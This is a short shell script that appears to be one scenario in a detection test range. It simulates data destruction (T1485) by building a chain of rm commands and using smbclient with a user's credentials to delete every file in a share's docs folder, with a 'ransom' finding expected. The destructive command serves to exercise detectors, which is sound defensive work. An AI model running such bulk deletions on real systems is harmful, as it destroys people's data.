# SPDX-License-Identifier: Apache-2.0
# what: all files of a share deleted, one after the other
# technique: T1485
# from: ws1
# to: fs1
# account: alice
# outcome: success
# must: finding ransom
. "$RANGE_HERE/item.sh"
documents "$data/docs" 150 3000
c=
for f in $(ls "$data/docs"); do c="$c; rm $f"; done
smbclient //fs1/data -U "CORP\\alice%$USER_PASSWORD" -c "cd docs$c"
[ "$(ls "$data/docs" | wc -l)" = 0 ]
